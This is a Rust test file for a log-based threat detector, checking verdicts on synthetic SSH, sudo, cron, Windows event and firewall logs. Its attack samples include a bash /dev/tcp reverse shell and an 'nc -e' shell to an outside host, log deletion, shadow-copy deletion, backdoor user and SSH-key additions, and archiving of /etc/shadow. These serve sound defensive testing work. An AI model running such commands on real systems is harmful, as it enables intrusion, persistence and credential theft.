//! Logs that a reviewer made after public descriptions of techniques: the shipped rules dismiss none of these attacks, and confirm none of
//! these ordinary days.

use gimbal_evidence::judge::Verdict::{Inconclusive, ThreatConfirmed, ThreatDismissed};

use crate::support::verdict_of as verdict;

fn sshd(second: u32, message: &str) -> String {
    format!("Mar 10 08:{:02}:{:02} web01 sshd[{second}]: {message}\n", second / 60, second % 60)
}

fn refused(second: u32, account: &str, from: &str) -> String {
    sshd(second, &format!("Failed password for {account} from {from} port 4{second:04} ssh2"))
}

fn accepted(second: u32, account: &str, from: &str) -> String {
    sshd(second, &format!("Accepted password for {account} from {from} port 5000 ssh2"))
}

fn event(id: u32, second: u32, fields: &[(&str, &str)]) -> String {
    let data: String = fields.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{value}</Data>")).collect();
    format!(
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"Microsoft-Windows-Security-Auditing\"/>\
         <EventID>{id}</EventID><TimeCreated SystemTime=\"2026-03-10T08:{:02}:{:02}.0000000Z\"/><EventRecordID>{second}</EventRecordID>\
         <Channel>Security</Channel><Computer>WS01</Computer></System><EventData>{data}</EventData></Event>\n",
        second / 60,
        second % 60
    )
}

fn started(parent: &str, image: &str, command: &str) -> String {
    event(
        4688,
        1,
        &[
            ("SubjectUserName", "ann"),
            ("NewProcessName", image),
            ("CommandLine", command),
            ("ParentProcessName", parent),
            ("NewProcessId", "0x1a4"),
            ("ProcessId", "0x2b0"),
        ],
    )
}

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";

// covers: ARES-023
#[test]
fn guesses_that_end_with_a_logon_are_seen_wherever_they_come_from() {
    let from = "198.51.100.7";
    let one: String = (0..12).map(|second| refused(second, "root", from)).collect();
    assert_eq!(verdict(&(one.clone() + &accepted(20, "root", from))), ThreatConfirmed);
    assert_eq!(verdict(&one), Inconclusive);
    let many: String =
        (0..30).map(|second| refused(second * 10, "root", &format!("203.0.113.{}", second + 1))).collect();
    assert_eq!(verdict(&(many + &accepted(320, "root", "203.0.113.9"))), ThreatConfirmed);
    let accounts: String = (0..6).map(|second| refused(second, &format!("user{second}"), from)).collect();
    assert_eq!(verdict(&(accounts + &accepted(30, "user9", from))), ThreatConfirmed);
}

// covers: ARES-023
#[test]
fn a_person_who_mistypes_is_not_confirmed_as_an_attacker() {
    let few: String = (0..5).map(|second| refused(second * 9, "alice", "10.0.0.8")).collect();
    assert_eq!(verdict(&(few + &accepted(60, "alice", "10.0.0.8"))), Inconclusive);
    // One wrong password a day, each followed by the right one.
    let day = |day: u32| {
        format!(
            "Mar {day:2} 09:00:00 web01 sshd[1]: Failed password for alice from 10.0.0.8 port 1 ssh2\n\
             Mar {day:2} 09:00:09 web01 sshd[2]: Accepted password for alice from 10.0.0.8 port 2 ssh2\n"
        )
    };
    assert_eq!(verdict(&(1..29).map(day).collect::<String>()), ThreatDismissed);
    // An agent that offers its keys one after the other guesses nothing.
    let keys: String = (0..12)
        .map(|second| sshd(second, "Failed publickey for alice from 10.0.0.8 port 1 ssh2: RSA SHA256:k"))
        .collect();
    let key = sshd(13, "Accepted publickey for alice from 10.0.0.8 port 1 ssh2: RSA SHA256:z");
    assert_eq!(verdict(&(keys + &key)), ThreatDismissed);
}

// covers: ARES-023
#[test]
fn commands_are_read_wherever_they_are_written() {
    let cron = |command: &str| format!("Mar 10 08:04:00 web01 CRON[104]: (root) CMD ({command})\n");
    assert_eq!(verdict(&cron("/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'")), ThreatConfirmed);
    assert_eq!(verdict(&cron("rsync -e ssh /srv backup:/srv")), ThreatDismissed, "`nc -e` is no word of it");
    let sudo = |command: &str| {
        format!("Mar 10 08:05:00 web01 sudo:   ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n")
    };
    assert_eq!(verdict(&sudo("/bin/nc -e /bin/sh 203.0.113.66 4444")), ThreatConfirmed);
    let covered = sudo("/usr/bin/tee -a /home/bob/.ssh/authorized_keys") + &sudo("/bin/rm -f /var/log/auth.log");
    assert_eq!(verdict(&covered), ThreatConfirmed);
    assert_eq!(verdict(&sudo("/usr/bin/apt update")), ThreatDismissed);
}

// covers: ARES-023
#[test]
fn marks_that_a_shell_takes_out_hide_no_command() {
    assert_eq!(verdict(&started(EXPLORER, CMD, "cmd.exe /c vss^admin d^elete sha^dows /all")), ThreatConfirmed);
    assert_eq!(verdict(&started(EXPLORER, CMD, "cmd.exe /c dir a^b")), ThreatDismissed);
}

// covers: ARES-023
#[test]
fn a_service_that_starts_again_was_not_put_out_of_use() {
    let shell = "Mar 10 08:00:00 web01 sudo:   ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash\n";
    let unit = |second: u32, what: &str| {
        format!("Mar 10 08:00:{second:02} web01 systemd[1]: {what} System Logging Service.\n")
    };
    let stopped = shell.to_owned() + &unit(50, "Stopped");
    assert_eq!(verdict(&stopped), ThreatConfirmed);
    assert_eq!(verdict(&(stopped + &unit(51, "Started"))), Inconclusive, "the root shell alone is left");
}

// covers: ARES-023
#[test]
fn lonely_signs_of_logons_and_groups_leave_the_case_open() {
    let logon = [
        ("TargetUserName", "administrator"),
        ("TargetDomainName", "CORP"),
        ("TargetLogonId", "0x9"),
        ("LogonType", "3"),
        ("LogonProcessName", "NtLmSsp "),
        ("AuthenticationPackageName", "NTLM"),
        ("IpAddress", "10.0.0.66"),
        ("KeyLength", "0"),
    ];
    let privileges = [("SubjectUserName", "administrator"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x9")];
    assert_eq!(verdict(&(event(4624, 1, &logon) + &event(4672, 2, &privileges))), Inconclusive);
    let desktop = |from: &str| {
        let fields = [("TargetUserName", "bob"), ("TargetLogonId", "0x9"), ("LogonType", "10"), ("IpAddress", from)];
        verdict(&event(4624, 1, &fields))
    };
    for inside in ["10.0.0.66", "::ffff:192.168.7.4", "172.31.0.9"] {
        assert_eq!(desktop(inside), Inconclusive, "{inside}");
    }
    for other in ["127.0.0.1", "172.32.0.9", "-"] {
        assert_eq!(desktop(other), ThreatDismissed, "{other}");
    }
    let group = [("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("SubjectUserName", "ann")];
    assert_eq!(verdict(&event(4732, 1, &group)), Inconclusive);
    // Packets to one outside port, a minute apart.
    let packet = |minute: u32| {
        format!(
            "Mar 10 08:{minute:02}:00 fw kernel: IN=eth1 OUT=eth0 SRC=10.0.0.23 DST=203.0.113.50 PROTO=TCP SPT=40{minute:02} DPT=4444\n"
        )
    };
    assert_eq!(verdict(&(0..50).map(packet).collect::<String>()), Inconclusive);
}

// covers: ARES-023
#[test]
fn a_field_is_found_by_the_name_that_its_source_gives_it() {
    assert_eq!(verdict(&started(r"C:\Windows\System32\inetsrv\w3wp.exe", CMD, "cmd.exe /c whoami")), ThreatConfirmed);
    assert_eq!(
        verdict(&started(r"C:\Program Files\Microsoft Office\WINWORD.EXE", CMD, "cmd.exe /c dir")),
        ThreatConfirmed
    );
    assert_eq!(verdict(&started(EXPLORER, CMD, "cmd.exe /c dir")), ThreatDismissed);
    let service = event(4697, 1, &[("ServiceName", "x"), ("ServiceFileName", "%COMSPEC% /b /c start powershell.exe")]);
    assert_eq!(verdict(&service), ThreatConfirmed);
}

// covers: ARES-023
#[test]
fn an_encoded_command_is_seen_by_every_spelling_of_its_switch() {
    for switch in ["-e", "-ec", "-enc", "/enc", "-EncodedCommand", "-encodedc"] {
        let command = format!("powershell.exe -NoP  {switch} JABjAGwA");
        assert_eq!(verdict(&started(EXPLORER, POWERSHELL, &command)), Inconclusive, "{command}");
    }
    for ordinary in
        ["powershell.exe -ExecutionPolicy Bypass -File a.ps1", "powershell.exe -Command Out-File -Encoding utf8"]
    {
        assert_eq!(verdict(&started(EXPLORER, POWERSHELL, ordinary)), ThreatDismissed, "{ordinary}");
    }
    // Blanks in a row count as one, as for the shell that reads them.
    assert_eq!(verdict(&started(EXPLORER, CMD, "vssadmin  delete   shadows /all")), ThreatConfirmed);
    assert_eq!(verdict(&started(EXPLORER, CMD, "net  user hax P@ss1 /add")), Inconclusive);
}

// covers: ARES-023
#[test]
fn wrong_passwords_at_a_domain_controller_are_guesses_too() {
    let refused = |second: u32| {
        let fields =
            [("TargetUserName", "bob"), ("Status", "0x18"), ("PreAuthType", "2"), ("IpAddress", "::ffff:10.0.0.66")];
        event(4771, second, &fields)
    };
    let events: String = (0..60).map(refused).collect();
    assert_eq!(verdict(&format!("<Events>{events}</Events>")), Inconclusive);
    let one: String = (0..3).map(refused).collect();
    assert_eq!(verdict(&format!("<Events>{one}</Events>")), ThreatDismissed);
}

/// 40 events of a domain controller within 80 seconds, each about another account.
fn sprayed(id: u32, status: &str, source: (&str, &str), account: impl Fn(u32) -> String) -> String {
    let one = |second: u32| {
        let name = account(second);
        event(id, 2 * second, &[("TargetUserName", name.as_str()), ("Status", status), source])
    };
    format!("<Events>{}</Events>", (0..40).map(one).collect::<String>())
}

// covers: ARES-023
#[test]
fn a_password_tried_on_many_accounts_of_a_domain_leaves_the_case_open() {
    let from = ("IpAddress", "::ffff:10.0.0.66");
    let many = |second: u32| format!("user{second}");
    for (id, status, source) in [
        (4771, "0x18", from),
        (4768, "0x6", from),
        (4776, "0xc000006a", ("Workstation", "WS66")),
        (4776, "0xC0000064", ("Workstation", "WS66")),
    ] {
        assert_eq!(verdict(&sprayed(id, status, source, many)), Inconclusive, "{id} {status}");
        // Few accounts, accounts of computers, and tickets that were granted are the work of a day.
        assert_eq!(verdict(&sprayed(id, status, source, |second| format!("user{}", second % 4))), ThreatDismissed);
        assert_eq!(verdict(&sprayed(id, status, source, |second| format!("WS{second}$"))), ThreatDismissed);
        assert_eq!(verdict(&sprayed(id, "0x0", source, many)), ThreatDismissed, "{id}");
    }
    // Attempts alone decide nothing, however many kinds of them there are.
    let both = sprayed(4768, "0x6", from, many) + &sprayed(4771, "0x18", from, |second| format!("known{second}"));
    assert_eq!(verdict(&both.replace("</Events><Events>", "")), Inconclusive);
}

// covers: ARES-023
#[test]
fn hashes_of_passwords_and_shells_over_a_share_leave_the_case_open() {
    let sudo = |command: &str| {
        format!("Mar 10 08:05:00 web01 sudo:   ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n")
    };
    assert_eq!(verdict(&sudo("/bin/tar cf /tmp/a.tar /etc/shadow /etc/passwd")), Inconclusive);
    assert_eq!(verdict(&sudo("/bin/tar cf /tmp/a.tar /etc/passwd")), ThreatDismissed);
    for command in [
        r"cmd.exe /Q /c whoami 1&gt; \\127.0.0.1\ADMIN$\__1567439113.54 2&gt;&amp;1",
        r"C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat",
    ] {
        assert_eq!(verdict(&started(EXPLORER, CMD, command)), Inconclusive, "{command}");
    }
    assert_eq!(verdict(&started(EXPLORER, CMD, r"cmd.exe /q /c C:\Temp\update.bat")), ThreatDismissed);
}
